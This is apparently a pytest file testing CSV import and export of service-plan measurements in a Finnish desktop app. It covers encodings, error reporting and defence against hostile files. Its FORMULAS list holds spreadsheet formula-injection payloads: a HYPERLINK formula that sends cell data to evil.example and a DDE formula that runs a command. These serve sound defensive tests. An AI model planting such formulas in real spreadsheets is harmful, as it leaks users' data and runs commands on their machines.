"""CSV import of measurements as Excel saves it: good files in, bad files reported by line and column, all or nothing."""

from __future__ import annotations

from decimal import Decimal

import pytest

from alliance_desktop import i18n, templates
from alliance_desktop.core import metrics_csv as mc
from alliance_desktop.core import metrics_edits as me
from alliance_desktop.core.errors import PlanError
from alliance_desktop.core.validation import validate_plan

D = Decimal
BOM = b"\xef\xbb\xbf"


@pytest.fixture
def english():
    i18n.set_language("en")
    yield
    i18n.set_language("fi")


@pytest.fixture
def plan():
    return templates.load_template("hyvaks")


def value(plan, metric, period):
    return me.measurement(me.find_metric(plan, metric), period)


GOOD = (
    "mittari;jakso;arvo\r\n"
    "jonotusajat;p3;88\r\n"
    "Hoitojakson kesto;Palvelujakso 3 (2 v, havainnollistava);1,75\r\n"
    "hoitokustannukset;p3;3 650,5\r\n"
    "ASIAKASTYYTYVÄISYYS;p3;71\r\n"
    "\r\n"
    "jonotusajat;lähtötaso;152\r\n"
)


@pytest.mark.parametrize("bom", [True, False], ids=["bom", "no-bom"])
def test_good_file_with_and_without_bom(plan, bom):
    data = (BOM if bom else b"") + GOOD.encode("utf-8")
    result = mc.import_measurements(plan, data)
    new = result.plan
    assert value(new, "jonotusajat", "p3") == D(88)
    assert value(new, "hoitojakso", "p3") == D("1.75")
    assert value(new, "hoitokustannukset", "p3") == D("3650.5")
    assert value(new, "asiakastyytyvaisyys", "p3") == D(71)
    assert me.find_metric(new, "jonotusajat").baseline == D(152)
    assert (result.values, result.changed, result.skipped) == (5, 5, 0)
    # measurements not in the file stay as they were
    assert value(new, "jonotusajat", "p1") == value(plan, "jonotusajat", "p1")
    assert me.find_metric(new, "tuottavuus") is me.find_metric(plan, "tuottavuus")
    validate_plan(new)


def test_windows_1252_file_from_plain_excel_csv(plan):
    data = "Mittari;Jakso;Arvo\r\nAsiakastyytyväisyys;p3;70,5\r\n".encode("cp1252")
    assert value(mc.import_measurements(plan, data).plan, "asiakastyytyvaisyys", "p3") == D("70.5")


def test_columns_in_any_order_english_names_quotes_and_extra_columns(plan):
    text = ('Value;Notes;Period;Metric\n'
            '"1,9";"note; with a semicolon";p3;hoitojakso\n'
            '-2;;p3;hairiot\n'
            '4.5;;p3;tuottavuus\n')
    new = mc.import_measurements(plan, text.encode()).plan
    assert value(new, "hoitojakso", "p3") == D("1.9")
    assert value(new, "hairiot", "p3") == D(-2)
    assert value(new, "tuottavuus", "p3") == D("4.5")


def test_empty_value_rows_are_skipped(plan):
    result = mc.import_measurements(plan, b"mittari;jakso;arvo\njonotusajat;p3;\njonotusajat;p2;90\n")
    assert (result.values, result.skipped) == (1, 1)
    assert value(result.plan, "jonotusajat", "p3") is None
    assert value(result.plan, "jonotusajat", "p2") == D(90)
    assert result.changed == 1


def test_export_then_import_is_the_same_plan(plan):
    data = mc.export_measurements(plan, "fi")
    assert data.startswith(BOM)
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == "mittari;jakso;arvo;mittarin nimi;jakson nimi"
    assert "hoitojakso;p1;2,1;Hoitojakson kesto;" in text
    assert "jonotusajat;lähtötaso;150;Jonotusajat;" in text
    result = mc.import_measurements(plan, data)
    assert result.plan == plan and result.changed == 0
    english = mc.export_measurements(plan, "en").decode("utf-8-sig")
    assert english.splitlines()[0] == "metric;period;value;metric name;period name"
    assert mc.import_measurements(plan, english).plan == plan


def test_negative_values_export_with_an_ascii_minus(plan):
    new = me.set_measurement(plan, "hairiot", "p3", D("-1.5"))
    text = mc.export_measurements(new, "fi").decode("utf-8-sig")
    assert "hairiot;p3;-1,5;" in text
    assert mc.import_measurements(new, text).plan == new


# ---------------------------------------------------------------- bad files


def problems_of(plan, data):
    with pytest.raises(mc.CsvImportError) as info:
        mc.import_measurements(plan, data)
    assert isinstance(info.value, PlanError)
    return info.value


def test_bad_rows_are_reported_by_line_and_column_and_nothing_is_imported(plan, english):
    data = ("mittari;jakso;arvo\n"
            "jonotusajat;p3;88\n"
            "jonotusajat;p3;abc\n"
            "tuntematon;p3;1\n"
            "hoitojakso;p7;1,2\n"
            ";p3;5\n"
            "\n"
            "jonotusajat;p3;90\n").encode()
    error = problems_of(plan, data)
    found = [(p.line, p.column, p.header) for p in error.problems]
    assert found == [(3, 3, "arvo"), (4, 1, "mittari"), (5, 2, "jakso"), (6, 1, "mittari"), (8, 2, "jakso")]
    lines = error.message.splitlines()
    assert lines[0] == "The measurements were not imported; nothing was changed. Problems found: 5."
    assert lines[1] == "Line 3, column C (arvo): “abc” is not a number."
    assert lines[2] == "Line 4, column A (mittari): No metric has the key or name “tuntematon”."
    assert lines[3] == "Line 5, column B (jakso): No service period has the key or name “p7”."
    assert lines[4] == "Line 6, column A (mittari): The metric is missing."
    assert lines[5] == "Line 8, column B (jakso): This metric's value for this period is already given on line 2."


def test_problem_messages_are_translated():
    error = problems_of(templates.load_template("hyvaks"), b"mittari;jakso;arvo\njonotusajat;p1;abc\n")
    # the number problem comes from core.formatting, whose Finnish is already in the .ts
    assert "“abc” ei ole luku." in error.message


def test_quoted_cell_over_two_lines_keeps_line_numbers_right(plan):
    data = 'mittari;jakso;arvo;huom\njonotusajat;p3;88;"two\nlines"\njonotusajat;p9;1;\n'.encode()
    error = problems_of(plan, data)
    assert [(p.line, p.column) for p in error.problems] == [(4, 2)]


@pytest.mark.parametrize("data, expected", [
    (b"", "The file is empty."),
    (b"metric,period,value\njonotusajat,p1,5\n", "The columns must be separated by semicolons (;)"),
    (b"jonotusajat\n", "The first line must name the columns"),
    (b"mittari;arvo\njonotusajat;5\n", "no column for the period"),
    (b"mittari;jakso;arvo\n", "The file has no measurements below the first line."),
    (b'mittari;jakso;arvo\njonotusajat;"p1;5\n', "check its quotation marks"),
    (b"mittari;metric;jakso;arvo\njonotusajat;jonotusajat;p1;5\n", "two columns for the same thing"),
])
def test_broken_files(plan, english, data, expected):
    error = problems_of(plan, data)
    assert expected in error.message


def test_two_metrics_with_the_same_name_need_the_key(plan, english):
    twin = me.add_metric(plan, "Jonotusajat")
    error = problems_of(twin, b"mittari;jakso;arvo\nJonotusajat;p3;5\n")
    assert "use the metric's key" in error.message
    ok = mc.import_measurements(twin, b"mittari;jakso;arvo\njonotusajat_2;p3;5\n").plan
    assert value(ok, "jonotusajat_2", "p3") == D(5)


def test_a_long_list_of_problems_is_shortened(plan, english):
    rows = "".join(f"nope{i};p1;1\n" for i in range(30))
    error = problems_of(plan, ("mittari;jakso;arvo\n" + rows).encode())
    assert len(error.problems) == 30
    assert error.message.splitlines()[-1] == "… and 10 more."


def test_column_letters():
    assert [mc.column_letter(n) for n in (1, 3, 26, 27, 52, 53)] == ["A", "C", "Z", "AA", "AZ", "BA"]


# ---------------------------------------------------------------- hostile files (issue 14)


def _renamed(plan, metric_names: dict, period_names: dict):
    import dataclasses

    metrics = tuple(dataclasses.replace(x, name=metric_names.get(x.key, x.name)) for x in plan.metrics)
    periods = tuple(dataclasses.replace(p, name=period_names.get(p.key, p.name)) for p in plan.commercial.periods)
    return dataclasses.replace(plan, metrics=metrics,
                               commercial=dataclasses.replace(plan.commercial, periods=periods))


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"Klikkaa")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
            "\tsarkain", "'=jo lainattu", "''+kaksi"]


def test_exported_names_cannot_run_as_spreadsheet_formulas_and_import_back(plan):
    import csv
    import io

    metric_keys = [x.key for x in plan.metrics][:len(FORMULAS)]
    period_keys = [p.key for p in plan.commercial.periods]
    hostile = _renamed(plan, dict(zip(metric_keys, FORMULAS)), dict(zip(period_keys, reversed(FORMULAS))))
    for lang in ("fi", "en"):
        data = mc.export_measurements(hostile, lang)
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
        for row in rows[1:]:
            for i, cell in enumerate(row):
                if i != 2:  # the value column holds numbers (a minus sign is a number there)
                    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
        names = {row[3] for row in rows[1:]} | {row[4] for row in rows[1:]}
        assert "'" + FORMULAS[1] in names and "''=jo lainattu" in names and "'''+kaksi" in names
        assert mc.import_measurements(hostile, data).plan == hostile  # read back by name too:
        out = io.StringIO(newline="")
        csv.writer(out, delimiter=";").writerows([rows[0][:3], *([r[3], r[4] or r[1], r[2]] for r in rows[1:])])
        by_name = out.getvalue()
        assert mc.import_measurements(hostile, by_name).plan == hostile


def test_safe_cell_and_read_cell_are_inverse():
    for text in ["", "'", "''", "a", "'a", "=", "'=", "''=", "-5", "'-5", "@", "x=y", "\r", "'\t"]:
        assert mc.read_cell(mc.safe_cell(text)) == text
        assert mc.safe_cell(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_a_hand_written_name_starting_with_a_quote_is_found_as_written(plan):
    key = plan.metrics[0].key
    quoted = _renamed(plan, {key: "'=lainausmerkki"}, {})
    new = mc.import_measurements(quoted, "mittari;jakso;arvo\n'=lainausmerkki;p1;5\n".encode()).plan
    assert value(new, key, "p1") == D(5)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le"])
def test_a_utf16_or_utf32_file_gets_one_message_about_the_encoding(plan, english, encoding):
    error = problems_of(plan, GOOD.encode(encoding))
    assert len(error.problems) == 1
    assert "UTF-16" in error.problems[0].message and "CSV UTF-8" in error.problems[0].message
    assert "no column" not in str(error)


@pytest.mark.parametrize("amount", ["123456789012345678901234567890,123", "1 000 000 000 001", "-1e3",
                                    "0,0000001", "1," + "0" * 40 + "1", "9" * 5000], ids=range(6))
def test_amounts_beyond_the_sane_range_name_the_metric_and_period(plan, english, amount):
    error = problems_of(plan, f"mittari;jakso;arvo\njonotusajat;p1;{amount}\n".encode())
    assert len(error.problems) == 1
    message = error.problems[0].message
    if "e" in amount:  # not a number at all
        assert "is not a number" in message
        return
    assert "“Jonotusajat”" in message and "“Palvelujakso 1 (2 v, havainnollistava)”" in message, message
    assert len(str(error)) < 400


def test_amounts_at_the_limits_are_taken(plan):
    data = "mittari;jakso;arvo\njonotusajat;p1;1 000 000 000 000\njonotusajat;p2;-1000000000000\nhoitojakso;p1;0,000001\n"
    new = mc.import_measurements(plan, data.encode()).plan
    assert value(new, "jonotusajat", "p1") == D(10) ** 12 and value(new, "jonotusajat", "p2") == -D(10) ** 12
    assert value(new, "hoitojakso", "p1") == D("0.000001")


def test_fuzz_any_bytes_end_in_a_result_or_one_refusal_quickly(plan):
    import time

    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    header = st.sampled_from([b"", b"mittari;jakso;arvo\n", b"\xef\xbb\xbfmetric;period;value\r\n", b"\xff\xfe"])
    cells = st.sampled_from([b"jonotusajat", b"p1", b"p3", b"l\xc3\xa4ht\xc3\xb6taso", b"1,5", b"-2", b"'=x", b'"',
                             b";", b"\n", b"\r", b"\x00", b"9" * 40, b"1 234,5", b"\xe4", b"\xff", b"=1+1", b""])
    body = st.lists(st.one_of(cells, st.binary(max_size=40)), max_size=60).map(b"".join)

    @settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
    @given(header, body)
    def check(head, rest):
        data = head + rest
        start = time.perf_counter()
        try:
            result = mc.import_measurements(plan, data)
        except mc.CsvImportError as exc:
            assert exc.message and exc.problems
        else:
            assert isinstance(result, mc.ImportResult)
            validate_plan(result.plan)
        assert time.perf_counter() - start < 2.0

    check()


def test_a_large_hostile_file_is_refused_in_linear_time(plan):
    import time

    for data in (b"mittari;jakso;arvo\n" + b"jonotusajat;p1;" + b"9" * 5_000_000 + b"\n",
                 b"mittari;jakso;arvo\n" + b"x;y;1\n" * 200_000,
                 b"mittari;jakso;arvo\n" + b'"' + b"a" * 3_000_000 + b"\n",
                 b"a" * 5_000_000):
        start = time.perf_counter()
        with pytest.raises(mc.CsvImportError):
            mc.import_measurements(plan, data)
        assert time.perf_counter() - start < 5.0
